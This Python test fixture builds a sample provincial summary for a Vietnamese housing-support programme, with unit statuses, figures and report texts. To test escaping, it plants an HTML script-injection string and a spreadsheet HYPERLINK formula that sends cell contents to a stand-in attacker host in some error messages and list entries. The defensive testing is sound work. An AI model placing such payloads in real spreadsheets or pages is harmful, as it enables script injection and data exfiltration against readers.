"""A realistic provincial summary (the aggregation step's output), written by hand: as the
JSON of `summary.json` (`summary_dict`), and typed (`make_summary`, `core.summary.Summary`).

Units of every kind and every status; units that are not accepted carry their last
accepted cumulative figures forward (tables A, B, mobilisation) and contribute
nothing to this period's propaganda; a unit never accepted has no figures (`{}`).
Totals, houses, districts and changes are derived from `BY_UNIT` below so that they
always agree, the way the aggregation step derives them. Texts that came from the
units' sheets include HTML and spreadsheet-formula payloads and one string in NFD,
to check escaping, formula neutralising and normalisation.
"""

from __future__ import annotations

import copy
import unicodedata
from typing import Any

import msgspec

from housing_report.core.summary import Summary

A_ROWS = ("NCC", "MTQG", "PTTD", "KHAC")
A_COLUMNS = ("CAN_XM", "CAN_SC", "KC_XM", "KC_SC", "HT_XM", "HT_SC")
B_ROWS = ("NSTW", "NSDP", "XHH", "DOI_UNG", "VAY")
B_COLUMNS = ("HUY_DONG", "GIAI_NGAN")
MOBILISATION = ("NGAY_CONG", "LUOT_NGUOI")
PROPAGANDA = ("C_TIN_BAI", "C_PHONG_SU", "C_HOI_NGHI", "C_LUOT_DU", "C_LOA", "C_MXH", "C_AN_PHAM", "C_PANO")
CUMULATIVE_PREFIXES = ("A.", "B.")

SCRIPT = '<script>alert("xss")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
# "Nhà tình thương" typed on a machine that stores decomposed accents (NFD).
NFD_TEXT = unicodedata.normalize("NFD", "Nhà tình thương cho hộ bà Lâm Thị Sương")


def _table_a(*rows: tuple[int, int, int, int, int, int]) -> dict[str, int]:
    return {
        f"A.{r}.{c}": v
        for r, values in zip(A_ROWS, rows, strict=True)
        for c, v in zip(A_COLUMNS, values, strict=True)
    }


def _table_b(**rows: tuple[float, float]) -> dict[str, float]:
    return {
        f"B.{r}.{c}": float(v) for r, values in rows.items() for c, v in zip(B_COLUMNS, values, strict=True)
    }


def _fields(codes: tuple[str, ...], values: tuple[int, ...]) -> dict[str, int]:
    return dict(zip(codes, values, strict=True))


def _district(a, b, mob, prop=None) -> dict[str, int | float]:
    """A district's figures; `prop` None for one whose cumulative figures are carried forward."""
    figures = {**_table_a(*a), **_table_b(**b), **_fields(MOBILISATION, mob)}
    return figures | (_fields(PROPAGANDA, prop) if prop is not None else {})


BY_UNIT: dict[str, dict[str, int | float]] = {
    "941": _district(
        [
            (40, 25, 30, 20, 22, 18),
            (120, 60, 80, 45, 50, 38),
            (210, 95, 120, 60, 70, 41),
            (15, 10, 8, 6, 5, 4),
        ],
        {
            "NSTW": (4200, 3150.5),
            "NSDP": (1250.75, 980),
            "XHH": (2310.125, 1875.5),
            "DOI_UNG": (860, 860),
            "VAY": (1500, 1200),
        },
        (3120, 1875),
        (12, 3, 9, 640, 45, 38, 1200, 14),
    ),
    "942": _district(
        [
            (55, 30, 41, 25, 30, 20),
            (260, 140, 150, 90, 101, 66),
            (380, 170, 210, 110, 120, 80),
            (20, 12, 10, 8, 6, 5),
        ],
        {
            "NSTW": (8100, 6420.25),
            "NSDP": (2350, 1890.6),
            "XHH": (3125.5, 2540),
            "DOI_UNG": (1420, 1380),
            "VAY": (2600, 2100),
        },
        (5480, 3210),
        (8, 2, 15, 1120, 60, 52, 2000, 22),
    ),
    # Rejected this period: its figures of 27/02/2025 are carried forward.
    "943": _district(
        [
            (60, 35, 40, 20, 25, 15),
            (310, 150, 160, 80, 90, 52),
            (420, 210, 200, 110, 95, 60),
            (25, 15, 10, 5, 4, 3),
        ],
        {
            "NSTW": (7800, 5200),
            "NSDP": (2100, 1500.4),
            "XHH": (2890, 2100),
            "DOI_UNG": (1250, 1100),
            "VAY": (2300, 1650),
        },
        (4210, 2480),
    ),
    # Not updated for this period: carried forward from 27/02/2025.
    "944": _district(
        [
            (35, 20, 28, 14, 20, 10),
            (190, 100, 110, 60, 70, 42),
            (260, 130, 140, 70, 80, 44),
            (10, 8, 5, 4, 3, 2),
        ],
        {
            "NSTW": (5400, 3900),
            "NSDP": (1620.5, 1100),
            "XHH": (1980, 1450.25),
            "DOI_UNG": (900, 780),
            "VAY": (1650, 1200),
        },
        (2950, 1720),
    ),
    # Missing and never accepted: no figures at all.
    "945": {},
    # Unreachable: carried forward from 12/02/2025.
    "946": _district(
        [
            (45, 25, 30, 15, 18, 10),
            (230, 120, 130, 70, 75, 40),
            (300, 160, 150, 90, 85, 52),
            (12, 6, 6, 3, 2, 1),
        ],
        {
            "NSTW": (6200, 4300.125),
            "NSDP": (1800, 1250),
            "XHH": (2150, 1600),
            "DOI_UNG": (1020, 900),
            "VAY": (1900, 1400),
        },
        (3380, 2040),
    ),
    "MTTQ": {
        **_table_b(XHH=(12500.75, 10250.5)),
        **_fields(MOBILISATION, (8600, 4120)),
        **_fields(PROPAGANDA, (6, 0, 12, 1850, 0, 64, 3000, 20)),
    },
    # Rejected: XHH and mobilisation of 27/02/2025 carried forward, no propaganda.
    "HLHPN": {**_table_b(XHH=(1850, 1600.3)), **_fields(MOBILISATION, (2100, 1350))},
    "HND": {
        **_table_b(XHH=(960.5, 720)),
        **_fields(MOBILISATION, (1540, 980)),
        **_fields(PROPAGANDA, (2, 0, 7, 420, 0, 18, 500, 6)),
    },
    "BAO_ST": _fields(PROPAGANDA, (48, 2, 0, 0, 0, 96, 0, 0)),
    # A press unit has nothing cumulative to carry forward.
    "DAI_PTTH": {},
    "SO_TTTT": {},
}

# What grew since 27/02/2025 in each unit (cumulative keys only); the previous totals are
# this period's totals minus these.
GROWTH: dict[str, int | float] = {
    "A.NCC.HT_XM": 6,
    "A.NCC.HT_SC": 4,
    "A.MTQG.HT_XM": 30,
    "A.MTQG.HT_SC": 22,
    "A.PTTD.HT_XM": 41,
    "A.PTTD.HT_SC": 17,
    "A.PTTD.KC_XM": 25,
    "A.KHAC.HT_XM": 2,
    "B.NSTW.GIAI_NGAN": 1250.5,
    "B.XHH.HUY_DONG": 830.25,
    "B.XHH.GIAI_NGAN": 612,
    "NGAY_CONG": 1460,
    "LUOT_NGUOI": 910,
}
PREVIOUS_COMPLETED_BY_DISTRICT = {"941": 196, "942": 358, "943": 344, "944": 271, "946": 283}

_ERRORS_943 = [
    {
        "cell": "BaoCao!G14",
        "code": "HT_XM",
        "message": (
            "Số nhà đã hoàn thành xây mới (95) lớn hơn số nhà đã khởi công xây mới (90 ở ô BaoCao!E14)"
        ),
    },
    {
        "cell": "BaoCao!D15",
        "code": "CAN_XM",
        "message": "Ô BaoCao!D15 ghi '12 căn': chỉ ghi số, ví dụ 12 " + SCRIPT,
    },
    {
        "cell": "BaoCao!C30",
        "code": "C_TIN_BAI",
        "message": f"Ô BaoCao!C30 ghi '{FORMULA}': chỉ ghi số nguyên, ví dụ 15",
    },
]
_ERRORS_HLHPN = [
    {
        "cell": "PhuNu!D21",
        "code": "GIAI_NGAN",
        "message": "Số tiền đã giải ngân (1.900) lớn hơn số tiền đã huy động, bố trí (1.850 ở ô PhuNu!C21)",
    },
]


def _unit(
    code,
    name,
    kind,
    status,
    *,
    errors=(),
    warnings=(),
    carried=None,
    reason="",
    sheet="BaoCao",
    spreadsheet=None,
) -> dict[str, Any]:
    labels = {
        "accepted": "Đã tiếp nhận",
        "rejected": "Bị trả lại (có lỗi)",
        "stale": "Chưa cập nhật kỳ này",
        "missing": "Không có trang tính",
        "unreachable": "Không đọc được",
    }
    return {
        "code": code,
        "name": name,
        "kind": kind,
        "status": status,
        "status_label": labels[status],
        "errors": list(errors),
        "warnings": list(warnings),
        "carried_forward_from": carried,
        "reason": reason,
        "spreadsheet": spreadsheet or f"st-{code.lower()}",
        "worksheet": sheet,
        "read_at": None if status in ("missing", "unreachable") else "2025-03-12T00:01:12+00:00",
    }


UNITS = [
    _unit(
        "941",
        "Thành phố Sóc Trăng",
        "district",
        "accepted",
        warnings=[
            {
                "cell": "BaoCao!C9",
                "code": "NGAY_LAP",
                "message": "Ngày lập 13/03/2025 sau ngày kỳ báo cáo 12/03/2025",
            }
        ],
    ),
    _unit("942", "Huyện Châu Thành", "district", "accepted"),
    _unit("943", "Huyện Kế Sách", "district", "rejected", errors=_ERRORS_943, carried="2025-02-27"),
    _unit("944", "Huyện Mỹ Tú", "district", "stale", carried="2025-02-27"),
    _unit(
        "945",
        "Huyện Cù Lao Dung",
        "district",
        "missing",
        reason="Không tìm thấy trang tính 'BaoCao' trong bảng tính st-945-cu-lao-dung",
    ),
    _unit(
        "946",
        "Huyện Long Phú",
        "district",
        "unreachable",
        carried="2025-02-12",
        reason="Không có quyền đọc bảng tính (403) sau 3 lần thử",
    ),
    _unit("MTTQ", "Ủy ban MTTQ Việt Nam tỉnh", "organization", "accepted", sheet="MTTQ"),
    _unit(
        "HLHPN",
        "Hội Liên hiệp Phụ nữ tỉnh",
        "organization",
        "rejected",
        errors=_ERRORS_HLHPN,
        carried="2025-02-27",
        sheet="PhuNu",
    ),
    _unit("HND", "Hội Nông dân tỉnh", "organization", "accepted", sheet="NongDan"),
    _unit("BAO_ST", "Báo Sóc Trăng", "press", "accepted"),
    _unit("DAI_PTTH", "Đài Phát thanh và Truyền hình Sóc Trăng", "press", "stale"),
    _unit("SO_TTTT", "Sở Thông tin và Truyền thông", "press", "unreachable", reason=""),
]

LISTS = {
    "D": [
        {
            "unit_code": "941",
            "unit_name": "Thành phố Sóc Trăng",
            "text": 'Mô hình "Mái ấm nghĩa tình": Phường 2 vận động 35 hộ kinh doanh góp 1.050 triệu đồng',
            "place": "Phường 2",
        },
        {
            "unit_code": "MTTQ",
            "unit_name": "Ủy ban MTTQ Việt Nam tỉnh",
            "text": NFD_TEXT,
            "place": "Xã Thạnh Phú",
        },
        {
            "unit_code": "HND",
            "unit_name": "Hội Nông dân tỉnh",
            "text": "Nông dân góp ngày công " + SCRIPT,
            "place": FORMULA,
        },
    ],
    "E": [
        {
            "unit_code": "942",
            "unit_name": "Huyện Châu Thành",
            "text": "Giá vật liệu xây dựng tăng khoảng 12% so với đầu năm",
            "place": "",
        },
        {
            "unit_code": "BAO_ST",
            "unit_name": "Báo Sóc Trăng",
            "text": "-2+3 hộ chưa có đất ở ổn định",
            "place": "",
        },
    ],
    "F": [
        {
            "unit_code": "941",
            "unit_name": "Thành phố Sóc Trăng",
            "text": "Đề nghị sớm phân bổ vốn ngân sách trung ương đợt 2",
            "place": "",
        },
        {"unit_code": "942", "unit_name": "Huyện Châu Thành", "text": "@mọi người: " + FORMULA, "place": ""},
    ],
}


def _sum_keys(rows: list[dict[str, int | float]]) -> dict[str, int | float]:
    keys = [k for figures in rows for k in figures]
    totals: dict[str, int | float] = {}
    for k in dict.fromkeys(keys):
        total = sum(figures.get(k, 0) for figures in rows)
        totals[k] = round(total, 3) if isinstance(total, float) else total
    return totals


def _with_table_totals(figures: dict[str, int | float]) -> dict[str, int | float]:
    out = dict(figures)
    for table, rows, columns in (("A", A_ROWS, A_COLUMNS), ("B", B_ROWS, B_COLUMNS)):
        for c in columns:
            values = [figures[f"{table}.{r}.{c}"] for r in rows if f"{table}.{r}.{c}" in figures]
            if values:
                total = sum(values)
                out[f"{table}.TONG.{c}"] = round(total, 3) if isinstance(total, float) else total
    return out


def _houses(figures: dict[str, int | float]) -> dict[str, int]:
    return {
        "needed": figures["A.TONG.CAN_XM"] + figures["A.TONG.CAN_SC"],
        "started": figures["A.TONG.KC_XM"] + figures["A.TONG.KC_SC"],
        "completed": figures["A.TONG.HT_XM"] + figures["A.TONG.HT_SC"],
    }


def _percent(houses: dict[str, int]) -> float:
    return round(houses["completed"] * 100 / houses["needed"], 2) if houses["needed"] else 0.0


def summary_dict() -> dict[str, Any]:
    """A fresh summary of the period 12/03/2025 as its JSON's dict."""
    totals = _with_table_totals(_sum_keys(list(BY_UNIT.values())))
    previous_totals = dict(totals)
    for key, grown in GROWTH.items():
        value = previous_totals[key] - grown
        previous_totals[key] = round(value, 3) if isinstance(value, float) else value
    previous_totals = _with_table_totals(previous_totals)
    for key in PROPAGANDA:
        previous_totals[key] = totals[key] // 2 + 3
    cumulative = [k for k in totals if k.startswith(CUMULATIVE_PREFIXES) or k in MOBILISATION]
    change = {}
    for k in cumulative:
        delta = totals[k] - previous_totals[k]
        change[k] = round(delta, 3) if isinstance(delta, float) else delta
    houses = _houses(totals)

    districts = []
    for unit in UNITS:
        if unit["kind"] != "district":
            continue
        figures = _with_table_totals(BY_UNIT[unit["code"]])
        h = _houses(figures) if figures else {"needed": 0, "started": 0, "completed": 0}
        previous = PREVIOUS_COMPLETED_BY_DISTRICT.get(unit["code"])
        districts.append(
            {
                "code": unit["code"],
                "name": unit["name"],
                "status": unit["status"],
                "carried_forward_from": unit["carried_forward_from"],
                **h,
                "percent": _percent(h) if h["needed"] else None,
                "previous_completed": previous,
                "change": None if previous is None else h["completed"] - previous,
                "flagged": False,
            }
        )

    counts = {s: 0 for s in ("accepted", "rejected", "stale", "missing", "unreachable")}
    for unit in UNITS:
        counts[unit["status"]] += 1

    summary = {
        "schema": 1,
        "period": "2025-03-12",
        "period_label": "12/03/2025",
        "previous_period": "2025-02-27",
        "generated_at": "2025-03-12T00:05:00+00:00",
        "run_id": "scheduled__2025-03-12T00:00:00+00:00",
        "programme": {
            "title": "Xóa nhà tạm, nhà dột nát trên địa bàn tỉnh Sóc Trăng",
            "target_date": "2025-09-30",
        },
        "units": UNITS,
        "status_counts": counts,
        "totals": totals,
        "by_unit": BY_UNIT,
        "completion_percent": _percent(houses),
        "houses": houses,
        "districts": districts,
        "previous": {
            "period": "2025-02-27",
            "completion_percent": _percent(_houses(previous_totals)),
            "houses": _houses(previous_totals),
            "totals": previous_totals,
        },
        "change": change,
        "lists": LISTS,
        "apart": {},
    }
    return copy.deepcopy(summary)


def first_summary_dict() -> dict[str, Any]:
    """The same period as the first one ever collected (no previous period), as a dict."""
    summary = summary_dict()
    summary.update(previous_period=None, previous=None, change={})
    for d in summary["districts"]:
        d.update(previous_completed=None, change=None)
    return summary


def typed(summary: dict[str, Any]) -> Summary:
    """A summary's dict as the typed summary (checked: a wrong type is an error)."""
    return msgspec.convert(summary, Summary)


def make_summary() -> Summary:
    """A fresh summary of the period 12/03/2025 (tests may change it freely)."""
    return typed(summary_dict())


def make_first_summary() -> Summary:
    """The same period as the first one ever collected: no previous period."""
    return typed(first_summary_dict())
